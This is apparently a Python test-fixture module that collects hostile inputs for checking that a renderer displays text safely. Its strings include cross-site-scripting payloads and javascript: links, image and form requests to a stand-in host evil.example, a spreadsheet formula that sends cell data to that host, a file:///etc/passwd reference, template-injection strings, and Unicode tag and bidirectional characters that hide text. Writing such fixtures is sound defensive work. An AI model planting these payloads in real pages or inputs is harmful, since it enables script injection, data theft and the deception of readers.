"""What nobody should be able to do to a reader by saying it; each text begins with a word to find it by."""

TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in "obey me")
MARKUP = (
    "<script>window.harmed='script';alert(1)</script>",
    "<img src=x onerror=\"window.harmed='image';alert(2)\"><svg onload=\"window.harmed='svg'\"><circle r=9 /></svg>",
    "<iframe srcdoc=\"<script>parent.harmed='frame'</script>\"></iframe><object data=http://evil.example/o></object>",
    "<style>body{display:none!important}</style><base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'><link rel=stylesheet href=http://evil.example/c>",
    "\"><img src=x onerror=alert(3)> ' autofocus onfocus=alert(4) x='",
    "<form action=http://evil.example/><input name=key><button>Send</button></form>",
)
LINKS = (
    "[go](javascript:window.harmed='link') [go](JaVaScRiPt:alert(5)) [go](data:text/html,<script>1</script>)",
    "[go](vbscript:x) <javascript:alert(6)> [go](  javascript:alert(7)) [go](&#106;avascript:alert(8)) [x][1]",
    "[1]: javascript:alert(9)",
    "[elsewhere](http://evil.example/seen) http://evil.example/plain [relative](//evil.example/r)",
)
PICTURES = (
    "![tracked](http://evil.example/p.png) ![r](//evil.example/q.png) ![d](data:image/svg+xml;base64,PHN2Zy8+)",
    "![p][2] ![f](file:///etc/passwd) ![same](/api/runs/live)",
    "[2]: http://evil.example/reference.png",
)
TEXTS = {
    "harm-markup": "\n\n".join(MARKUP),
    "harm-links": "\n\n".join(LINKS),
    "harm-pictures": "\n\n".join(PICTURES),
    "harm-bidi": "pay \u202e001 rof\u202c \u2067right\u2069 to \u200fleft \u061c and \u202dforced\u202c",
    "harm-hidden": f"ig\u200bno\u2060re\ufeff {TAGS} soft\u00adhyphen \u2028line\u2029 \U000e0100",
    "harm-terminal": "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x08\x08\x7f bell\x07",
    "harm-template": "{{constructor.constructor('window.harmed=1')()}} ${window.harmed=1} {{7*7}} {agent1Output}",
    "harm-formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "harm-nested": f"{'> ' * 200}deep {'[' * 500} {'*' * 1000} {'- ' * 200}",
    "harm-code": '```<img src=x onerror=alert(10)>\n<script>\n\u202e\n```\n```js" onclick="alert(12)\nx\n```',
    "harm-tex": r"$\href{javascript:window.harmed=1}{x}$ $\htmlStyle{color:red}{y}$ $\includegraphics{http://evil.example/t}$"
    r" $$\def\a{\a\a}\a$$ \(\htmlData{x=y}{<img src=x onerror=alert(17)>}\) $\rule{999em}{999em}$",
    "harm-table": f"|{'a|' * 60}\n|{'-|' * 60}\n|{'<img src=x onerror=alert(13)>|' * 60}",
    "harm-long": "x" * 30_000,
}
MARKED = ("U+202E", "U+200B")  # how a page shows some of these
SAID = {name: f"{name} {text}" for name, text in TEXTS.items()}
TITLE = "harm-title <img src=x onerror=alert(14)>\u202e\u200b" + "w" * 400
NAME = '"><img src=x onerror=alert(15)>'  # of a user, a project, a conversation, a workflow
FILE = "harm-file<img src=x onerror=alert(16)>\u202egnp.exe"
